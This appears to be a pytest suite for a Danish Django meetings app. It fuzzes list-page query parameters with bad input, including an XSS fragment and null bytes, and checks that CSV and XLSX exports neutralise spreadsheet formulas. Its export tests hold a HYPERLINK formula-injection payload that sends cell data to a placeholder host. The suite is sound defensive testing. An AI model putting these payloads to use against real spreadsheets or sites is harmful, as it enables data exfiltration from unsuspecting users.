"""Bad input in a page's address gets a clear answer, never a 500.

Every GET parameter of every list page (found with `grep -rn request.GET`) is fuzzed with
values a person, a crawler or an attacker might send, as the people who may see the page."""

import csv
import io
from datetime import date, datetime

import openpyxl
import pytest
import time_machine
from django.test import Client

from meetings.deadlines import TZ
from meetings.tests.factories import schedule
from minutes import services as minutes_services
from minutes.models import FollowUpAction
from minutes.tests.test_register import minutes_with_actions

pytestmark = pytest.mark.django_db

BAD_VALUES = [
    "abc",
    "0",
    "-1",
    "99999",
    "9" * 30,
    "",
    "2026-13-45",
    "'",
    '"><script>',
    "\x00",
    "a\x00b",
    "x" * 5000,
    "1e400",
    "%",
    "æøå",
]

# (path, parameters, who may see it)
LIST_PAGES = [
    ("/sekretariat/moeder/", ["aar", "forum", "status"], "secretariat"),
    ("/sekretariat/moeder/ny/", ["forum"], "secretariat"),
    ("/sekretariat/organisationer/", ["q", "page"], "secretariat"),
    ("/sekretariat/personer/", ["q", "page"], "secretariat"),
    ("/sekretariat/medlemskaber/", ["q", "forum", "status", "page"], "secretariat"),
    ("/sekretariat/medlemskaber/ny/", ["forum"], "secretariat"),
    ("/sekretariat/temagrupper/", ["q", "page"], "secretariat"),
    ("/sekretariat/udbakke/", ["q", "status", "page"], "secretariat"),
    (
        "/beslutninger/",
        ["forum", "responsible", "status", "due_before", "overdue"],
        "member",
    ),
    (
        "/beslutninger/eksport.csv",
        ["forum", "responsible", "status", "due_before", "overdue"],
        "member",
    ),
    (
        "/beslutninger/eksport.xlsx",
        ["forum", "responsible", "status", "due_before", "overdue"],
        "member",
    ),
    (
        "/beslutninger/",
        ["forum", "responsible", "status", "due_before", "overdue"],
        "secretariat",
    ),
    (
        "/delaftaler/",
        ["theme", "administration", "housing_organisation", "status"],
        "anonymous",
    ),
    (
        "/delaftaler/",
        ["theme", "administration", "housing_organisation", "status"],
        "secretariat",
    ),
    ("/indsatser/", ["type", "status"], "anonymous"),
    ("/indsatser/", ["type", "status"], "member"),
    ("/soeg/", ["q", "forum", "aar", "type", "page"], "anonymous"),
    ("/soeg/", ["q", "forum", "aar", "type", "page"], "member"),
    ("/soeg/", ["q", "forum", "aar", "type", "page"], "secretariat"),
]
# Pages not for this visitor answer a redirect to sign-in or 403/404 — whatever the parameters.
REFUSED_PAGES = [
    ("/sekretariat/moeder/", ["aar"], "anonymous"),
    ("/sekretariat/medlemskaber/", ["q", "forum", "status", "page"], "member"),
    ("/sekretariat/udbakke/", ["q", "status", "page"], "anonymous"),
    ("/beslutninger/", ["forum", "status", "due_before"], "anonymous"),
]


@pytest.fixture
def clients(secretariat_client, member_client, anonymous_client) -> dict[str, Client]:
    return {
        "secretariat": secretariat_client,
        "member": member_client,
        "anonymous": anonymous_client,
    }


def _fuzz(client: Client, path: str, params: list[str]) -> list[tuple[str, str, int]]:
    failures = []
    for name in params:
        for value in BAD_VALUES:
            response = client.get(path, {name: value})
            if response.status_code >= 500:
                failures.append((name, value[:20], response.status_code))
        # repeated keys, and every parameter bad at once
        response = client.get(path, {name: ["1", "abc", "\x00"]})
        if response.status_code >= 500:
            failures.append((name, "repeated", response.status_code))
    for value in BAD_VALUES:
        response = client.get(path, dict.fromkeys(params, value))
        if response.status_code >= 500:
            failures.append(("all", value[:20], response.status_code))
    return failures


@pytest.mark.parametrize(("path", "params", "who"), LIST_PAGES)
def test_no_list_page_answers_500_to_bad_parameters(clients, path, params, who):
    response = clients[who].get(path)
    assert response.status_code == 200, "the page itself must answer to this visitor"
    assert _fuzz(clients[who], path, params) == []


@pytest.mark.parametrize(("path", "params", "who"), REFUSED_PAGES)
def test_a_page_not_for_the_visitor_refuses_bad_parameters_the_same_way(clients, path, params, who):
    assert clients[who].get(path).status_code in (302, 403, 404)
    assert _fuzz(clients[who], path, params) == []


@pytest.fixture
def sent_minutes(forums, secretariat_user, settings, tmp_path, django_capture_on_commit_callbacks):
    """Sent minutes of a Samarbejdsforum meeting (one draft version)."""
    settings.PRIVATE_MEDIA_ROOT = str(tmp_path)
    with time_machine.travel(datetime(2027, 1, 5, 9, 0, tzinfo=TZ), tick=False):
        meeting = schedule(forums["samarbejdsforum"], day=date(2027, 3, 10))
    with (
        time_machine.travel(datetime(2027, 3, 15, 10, 0, tzinfo=TZ), tick=False),
        django_capture_on_commit_callbacks(execute=True),
    ):
        minutes = minutes_services.minutes_start(actor=secretariat_user, meeting=meeting)
        minutes_services.minutes_send(actor=secretariat_user, minutes=minutes)
    return minutes


def test_comparing_minutes_versions_with_bad_numbers_is_never_an_error(sent_minutes, member_client):
    path = f"/moeder/{sent_minutes.meeting_id}/referat/sammenlign/"
    assert member_client.get(path).status_code == 200
    assert _fuzz(member_client, path, ["fra", "til"]) == []
    pdf = f"/moeder/{sent_minutes.meeting_id}/referat/version/1.pdf"
    assert _fuzz(member_client, pdf, ["endelig"]) == []


def test_a_bad_year_in_the_meeting_list_is_explained_and_the_current_year_shown(
    secretariat_user, forums
):
    secretariat_client = Client()
    with time_machine.travel(datetime(2027, 1, 5, 9, 0, tzinfo=TZ), tick=False):
        secretariat_client.force_login(secretariat_user)
        meeting = schedule(forums["samarbejdsforum"], day=date(2027, 6, 10))
        for value in ("abc", "0", "99999", "-1", "2026-13-45"):
            response = secretariat_client.get("/sekretariat/moeder/", {"aar": value})
            assert response.status_code == 200
            assert response.context["year"] == 2027
            assert list(response.context["meetings"]) == [meeting]
            shown = [str(m) for m in response.context["messages"]]
            assert any(m.startswith("Filteret »År« ignoreres") for m in shown), shown
        assert (
            secretariat_client.get("/sekretariat/moeder/", {"aar": "2028"}).context["year"] == 2028
        )


def test_a_search_with_a_nul_byte_is_ignored_and_the_other_filters_still_apply(
    secretariat_client, member_user
):
    response = secretariat_client.get(
        "/sekretariat/medlemskaber/", {"q": "a\x00b", "forum": "samarbejdsforum"}
    )
    assert response.status_code == 200
    assert response.context["q"] == ""
    assert response.context["selected_forum"] == "samarbejdsforum"
    assert {m.forum.slug for m in response.context["object_list"]} == {"samarbejdsforum"}


def test_a_bad_date_in_the_decisions_register_is_explained_and_the_other_filters_kept(
    member_client, forums
):
    response = member_client.get(
        "/beslutninger/", {"due_before": "2026-13-45", "status": "done", "forum": "x\x00"}
    )

    assert response.status_code == 200
    shown = [str(m) for m in response.context["messages"]]
    assert len(shown) == 2, shown
    assert any(m.startswith("Filteret »Frist til og med« ignoreres") for m in shown), shown
    assert response.context["form"].values()["status"] == "done"
    assert response.context["selected_forum"] == ""


# --- Spreadsheet exports ------------------------------------------------------------------


def test_the_decisions_register_csv_exports_formulas_as_text(
    forums, secretariat_user, secretariat_client, settings, tmp_path
):
    settings.PRIVATE_MEDIA_ROOT = str(tmp_path)
    hyperlink = '=HYPERLINK("http://x.example/?d="&A2;"Klik")'
    phone = "+45 33 66 33 66 kontaktes"
    minutes_with_actions(
        "samarbejdsforum",
        date(2027, 3, 10),
        secretariat_user,
        "@Beslutning",
        [
            (hyperlink, "BIF", date(2027, 4, 30), FollowUpAction.Status.OPEN),
            (phone, "TMF", date(2027, 6, 30), FollowUpAction.Status.OPEN),
        ],
    )

    response = secretariat_client.get("/beslutninger/eksport.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    actions = {row[4] for row in rows[1:]}
    assert actions == {"'" + hyperlink, "'" + phone}
    assert {row[3] for row in rows[1:]} == {"'@Beslutning"}
    assert FollowUpAction.objects.filter(what=hyperlink).exists()  # stored as typed


def test_the_decisions_register_xlsx_exports_formulas_as_text(
    forums, secretariat_user, secretariat_client, settings, tmp_path
):
    settings.PRIVATE_MEDIA_ROOT = str(tmp_path)
    hyperlink = '=HYPERLINK("http://x.example/?d="&A2;"Klik")'
    minutes_with_actions(
        "samarbejdsforum",
        date(2027, 3, 10),
        secretariat_user,
        "@Beslutning",
        [(hyperlink, "BIF", date(2027, 4, 30), FollowUpAction.Status.OPEN)],
    )

    response = secretariat_client.get("/beslutninger/eksport.xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    [row] = list(sheet.iter_rows(min_row=2))
    # A text cell holding the neutralised value: no spreadsheet evaluates it.
    assert (row[4].value, row[4].data_type) == ("'" + hyperlink, "s")
    assert (row[3].value, row[3].data_type) == ("'@Beslutning", "s")
    assert FollowUpAction.objects.filter(what=hyperlink).exists()  # stored as typed
